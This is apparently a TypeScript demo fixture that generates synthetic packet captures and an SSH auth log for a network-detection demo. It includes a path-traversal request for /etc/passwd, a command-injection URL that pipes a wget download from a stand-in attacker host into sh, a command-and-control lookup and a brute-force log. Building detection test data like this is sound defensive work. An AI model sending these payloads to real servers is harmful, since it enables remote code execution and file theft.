import { createHash } from 'node:crypto';
import { dnsQuery, ipv4, mac, Rng, tcp, udp, type Host } from './frames.js';

/**
 * The attacks of the `cordon up` demo, on top of the everyday traffic of demo-capture.ts
 * (which already holds a port scan): a path traversal and a command injection against the
 * web server, a workstation resolving a command-and-control domain and calling it, and — in
 * the auth log of the database VM, which an agent protects — an SSH brute force. The network
 * matches rules/demo/inventory.yaml; the rules that catch them are rules/demo/demo.rules and
 * loginspect's built-in sshd rules.
 */

/** Addresses of the demo network (rules/demo/inventory.yaml has the VMs). */
export const DEMO_NET = {
  web: { ip: '10.0.0.10', mac: mac(10) } satisfies Host,
  dns: { ip: '10.0.0.53', mac: mac(53) } satisfies Host,
  workstation: { ip: '10.0.1.21', mac: mac(21) } satisfies Host,
  /** Outside addresses reach the VMs through the router (its MAC on their frames). Documentation ranges (RFC 5737). */
  webAttacker: { ip: '203.0.113.66', mac: mac(1) } satisfies Host,
  c2: { ip: '192.0.2.99', mac: mac(1) } satisfies Host,
  c2Name: 'cnc.badguys.example',
  sshAttacker: '198.51.100.23',
  db: { vm: 'db-1', ip: '10.0.0.30', authLog: '/var/log/auth.log' },
} as const;

/** The demo agent on db-1. Real ids come from enrollment tokens (agt-<16 hex>); this one from a fixed seed. */
export const DEMO_AGENT_ID = `agt-${createHash('sha256').update('cordon-demo:db-1').digest('hex').slice(0, 16)}`;

const WEB_HOST = 'www.example.internal';

/** Attack frames, starting after `startUs` (the end of the everyday traffic). */
export function demoAttackFrames(startUs: number, seed = 42): Array<[number, Buffer]> {
  const rng = new Rng(seed ^ 0x5eed);
  let t = startUs;
  let ipid = 40_000;
  const frames: Array<[number, Buffer]> = [];
  const emit = (f: Buffer, gapUs = rng.int(200, 4000)) => {
    t += gapUs;
    frames.push([t, f]);
  };

  /** One TCP connection: handshake, a request, a response, FIN both ways. */
  const exchange = (client: Host, server: Host, port: number, request: string, response: string) => {
    const sport = 40_000 + rng.int(0, 20_000);
    let cs = rng.int(1, 1e9);
    let ss = rng.int(1, 1e9);
    emit(ipv4(client, server, 6, tcp(sport, port, cs, 0, 0x02), ipid++), 1_000_000);
    emit(ipv4(server, client, 6, tcp(port, sport, ss, cs + 1, 0x12), ipid++));
    cs += 1;
    ss += 1;
    emit(ipv4(client, server, 6, tcp(sport, port, cs, ss, 0x10), ipid++));
    const req = Buffer.from(request);
    emit(ipv4(client, server, 6, tcp(sport, port, cs, ss, 0x18, req), ipid++));
    cs += req.length;
    const res = Buffer.from(response);
    emit(ipv4(server, client, 6, tcp(port, sport, ss, cs, 0x18, res), ipid++));
    ss += res.length;
    emit(ipv4(client, server, 6, tcp(sport, port, cs, ss, 0x11), ipid++));
    emit(ipv4(server, client, 6, tcp(port, sport, ss, cs + 1, 0x11), ipid++));
    emit(ipv4(client, server, 6, tcp(sport, port, cs + 1, ss + 1, 0x10), ipid++));
  };
  const get = (path: string) =>
    `GET ${path} HTTP/1.1\r\nHost: ${WEB_HOST}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) curl-like/7.88\r\nAccept: */*\r\n\r\n`;
  const { web, dns, workstation, webAttacker, c2 } = DEMO_NET;

  // 1. the web exploit attempts: path traversal (the demo policy blocks this one), then command injection
  exchange(
    webAttacker,
    web,
    80,
    get('/cgi-bin/download.cgi?file=../../../../etc/passwd'),
    'HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n',
  );
  exchange(
    webAttacker,
    web,
    80,
    get('/cgi-bin/ping.cgi?host=10.0.0.1;wget%20http://203.0.113.66/x.sh%20-O-|sh'),
    'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 23\r\n\r\nPING 10.0.0.1: 1 packet',
  );

  // 2. a workstation looks up a known command-and-control name and calls it (no answer)
  const qid = rng.int(1, 65535);
  const qport = 30_000 + rng.int(0, 30_000);
  emit(ipv4(workstation, dns, 17, udp(qport, 53, dnsQuery(qid, DEMO_NET.c2Name)), ipid++), 2_000_000);
  emit(ipv4(dns, workstation, 17, udp(53, qport, dnsQuery(qid, DEMO_NET.c2Name, c2.ip)), ipid++));
  const sport = 40_000 + rng.int(0, 20_000);
  const seq = rng.int(1, 1e9);
  emit(ipv4(workstation, c2, 6, tcp(sport, 443, seq, 0, 0x02), ipid++));
  emit(ipv4(workstation, c2, 6, tcp(sport, 443, seq, 0, 0x02), ipid++), 1_000_000); // retransmitted SYN
  return frames;
}

export interface AuthLogLine {
  offset: number;
  line: Buffer;
}

/**
 * db-1's /var/log/auth.log around `nowMs`: a normal login, then an SSH brute force from
 * DEMO_NET.sshAttacker (invalid users and root, a new connection per try), in the formats
 * OpenSSH writes. Stamped relative to now — loginspect counts in log time and dates the
 * block it decides from the log, so an old stamp would give a block that has already expired.
 */
export function demoAuthLog(nowMs: number, seed = 42): { text: string; lines: AuthLogLine[] } {
  const rng = new Rng(seed ^ 0xa17);
  let t = nowMs - 95_000;
  const out: string[] = [];
  const line = (pid: number, msg: string, gapMs = rng.int(300, 2500)) => {
    t += gapMs;
    out.push(`${syslogTime(new Date(t))} ${DEMO_NET.db.vm} sshd[${pid}]: ${msg}`);
  };
  const deployPort = 50_000 + rng.int(0, 9999);
  line(
    1187,
    `Accepted publickey for deploy from 10.0.1.20 port ${deployPort} ssh2: ED25519 SHA256:Qm9vZGxlcyBhcmUgbm90IGtleXMsIGJ1dCBjbG9zZQ`,
  );
  line(1187, 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)', 40);
  let pid = 2101;
  // loginspect blocks at the fifth failure (oracle's password); the agent drops the address
  // from then on, so root's try is the last the log sees of it
  for (const user of ['admin', 'oracle', 'root']) {
    const port = 50_000 + rng.int(0, 15_000);
    if (user === 'root') {
      line(pid, `Failed password for root from ${DEMO_NET.sshAttacker} port ${port} ssh2`);
    } else {
      line(pid, `Invalid user ${user} from ${DEMO_NET.sshAttacker} port ${port}`);
      line(
        pid,
        `Failed password for invalid user ${user} from ${DEMO_NET.sshAttacker} port ${port} ssh2`,
        rng.int(800, 2000),
      );
    }
    line(
      pid,
      `Connection closed by ${user === 'root' ? 'authenticating' : 'invalid'} user ${user} ${DEMO_NET.sshAttacker} port ${port} [preauth]`,
      rng.int(20, 200),
    );
    pid += rng.int(1, 9);
  }
  line(1187, `Received disconnect from 10.0.1.20 port ${deployPort}:11: disconnected by user`, rng.int(5000, 9000));
  line(1187, 'pam_unix(sshd:session): session closed for user deploy', 30);
  const lines: AuthLogLine[] = [];
  let offset = 0;
  for (const l of out) {
    const b = Buffer.from(l);
    lines.push({ offset, line: b });
    offset += b.length + 1;
  }
  return { text: `${out.join('\n')}\n`, lines };
}

/** "Dec  5 09:14:03": syslog's year-less local time, as sshd writes it through rsyslog. */
function syslogTime(d: Date): string {
  const m = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][d.getMonth()]!;
  const p = (n: number) => String(n).padStart(2, '0');
  return `${m} ${String(d.getDate()).padStart(2, ' ')} ${p(d.getHours())}:${p(d.getMinutes())}:${p(d.getSeconds())}`;
}
